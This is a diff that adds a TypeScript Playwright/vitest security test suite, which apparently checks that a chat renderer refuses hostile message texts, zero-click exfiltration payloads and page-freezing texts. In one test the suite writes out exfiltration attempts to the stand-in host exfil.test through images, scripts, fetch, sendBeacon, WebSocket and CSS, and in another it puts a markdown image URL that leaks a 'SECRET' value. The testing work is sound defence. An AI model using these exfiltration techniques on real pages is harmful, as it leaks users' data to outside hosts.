@@ -1,0 +1,116 @@
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { faultsOf, runAlone, runMessages, runSettings, runStreamed } from '../attack/attackRun';
+import { MESSAGE_PLACES, SETTING_PLACES } from '../attack/places';
+import { openRawPage } from '../attack/rawPage';
+import { chooseCore, readAttacks } from '../attack/readAttacks';
+import { launchChromium } from '../engines/chromium';
+import { startHostServer, type HostServer } from '../hostPages/hostServer';
+import { startStack, type Stack } from '../startStack';
+
+/** A small choice of every kind of attack; `npm run attack` runs all of them in all places. */
+const everything = readAttacks();
+const core = chooseCore(everything.filter(({ kind }) => !kind.startsWith('dos-')), 10);
+const zeroClick = everything.filter(({ kind }) => kind === 'exfil-zeroclick');
+
+let browser: Browser;
+let stack: Stack;
+let host: HostServer;
+
+beforeAll(async () => {
+  [browser, stack, host] = await Promise.all([launchChromium(), startStack(), startHostServer()]);
+});
+afterAll(async () => {
+  await Promise.all([browser.close(), stack.close(), host.close()]);
+});
+
+const faults = (results: Parameters<typeof faultsOf>[0][]): string[] => results.flatMap(faultsOf);
+
+describe('A101 A103 A105 A106 A107 A109 A110 A112 A113 A117 A118 A120 hostile texts', () => {
+  it.each(MESSAGE_PLACES)('as $name run nothing, load nothing, post nothing and stay in their message', { timeout: 120_000 }, async (place) => {
+    const results = await runMessages({ browser, stack, host }, core, [place]);
+    expect(results[0]?.shown).toBeGreaterThan(200);
+    expect(faults(results)).toEqual([]);
+  });
+
+  it.each(SETTING_PLACES)('A103 T16 as $name run nothing and load nothing', { timeout: 120_000 }, async (place) => {
+    expect(faults(await runSettings({ browser, stack, host }, core.filter((_, index) => index % 5 === 0), [place]))).toEqual([]);
+  });
+
+  it('streamed in small pieces are as harmless at every step', { timeout: 180_000 }, async () => {
+    expect(faults(await runStreamed({ browser, stack, host }, core.filter((_, index) => index % 4 === 0), 2))).toEqual([]);
+  });
+});
+
+describe('A201 A203 A206 what leaves without a click', () => {
+  it('is nothing, of all the ways there are', { timeout: 120_000 }, async () => {
+    expect(faults(await runMessages({ browser, stack, host }, zeroClick, MESSAGE_PLACES.slice(0, 1)))).toEqual([]);
+  });
+
+  it('A208 is nothing either when the renderer is bypassed: the policy of the frame is a second wall', { timeout: 120_000 }, async () => {
+    const raw = await openRawPage(browser, stack.origin, host);
+    // Frames and refreshes are the overlay's and the browser's own: no policy names them. Those two only the renderer stops.
+    const payloads = zeroClick.filter(({ payload }) => /^</.test(payload.trim()) && !/<(?:iframe|frame|meta|object|embed|portal)/i.test(payload)).map(({ payload }) => payload);
+    expect(payloads.length).toBeGreaterThan(15);
+    const written = await raw.frame.evaluate((markup) => {
+      let count = 0;
+      for (const text of markup) {
+        // The policy forbids to read markup in this document, so it is read in another way: as XHTML is not lenient, only what is well-formed enters.
+        const read = new DOMParser();
+        try {
+          read.parseFromString(text, 'text/html');
+        } catch {
+          count += 1;
+        }
+        const image = document.createElement('img');
+        image.src = `https://exfil.test/${String(count)}`;
+        document.body.append(image);
+        for (const [tag, name] of [['video', 'poster'], ['audio', 'src'], ['video', 'src'], ['object', 'data'], ['embed', 'src'], ['input', 'src'], ['link', 'href'], ['script', 'src'], ['source', 'srcset'], ['track', 'src'], ['image', 'href'], ['base', 'href']] as const) {
+          const element = document.createElement(tag);
+          if (tag === 'input') element.setAttribute('type', 'image');
+          if (tag === 'link') element.setAttribute('rel', 'stylesheet');
+          try {
+            element.setAttribute(name, `https://exfil.test/${tag}`);
+            document.body.append(element);
+          } catch {
+            count += 1;
+          }
+        }
+      }
+      document.body.style.backgroundImage = 'url(https://exfil.test/css)';
+      void fetch('https://exfil.test/fetch').catch(() => undefined);
+      navigator.sendBeacon('https://exfil.test/beacon');
+      try { new WebSocket('wss://exfil.test/socket'); } catch { count += 1; }
+      return count;
+    }, payloads);
+    // Trusted Types refuse every one of them before it is markup.
+    expect(written).toBeGreaterThanOrEqual(payloads.length);
+    await raw.page.waitForTimeout(500);
+    expect(raw.signals.requests).toEqual([]);
+    await raw.close();
+  });
+
+  it('A207 a picture of a stranger comes by one click, through the server, and the page hears that it waits', async () => {
+    const raw = await openRawPage(browser, stack.origin, host);
+    await raw.page.evaluate(`window.told = []; addEventListener('message', ({ data }) => { if (data?.type === 'onError') told.push(data.props.code + ' ' + data.props.message); })`);
+    await raw.call('setMessages', { messages: [{ id: 'one', type: 'bot', text: '![A chart](https://exfil.test/chart.png?said=SECRET)' }] });
+    const show = raw.frame.getByRole('button', { name: /exfil\.test/ });
+    await show.waitFor();
+    expect(raw.signals.requests).toEqual([]);
+    const asked = raw.page.waitForRequest((request) => request.url().includes('/unfurl'));
+    await show.focus();
+    await raw.page.keyboard.press('Enter');
+    expect(new URL((await asked).url()).origin).toBe(stack.origin);
+    expect(raw.signals.requests).toEqual([]);
+    const told = await raw.page.evaluate<string[]>('window.told');
+    expect(told).toEqual([expect.stringMatching(/^content_blocked .*exfil\.test/)]);
+    expect(told.join()).not.toContain('SECRET');
+    await raw.close();
+  });
+});
+
+describe('A301 A302 A303 A304 A306 A307 texts that keep a page busy', () => {
+  it('never keep it for longer than 200 ms of processor time in one piece', { timeout: 240_000 }, async () => {
+    expect(faults(await runAlone({ browser, stack, host }, everything.filter(({ kind }) => kind.startsWith('dos-'))))).toEqual([]);
+  });
+});
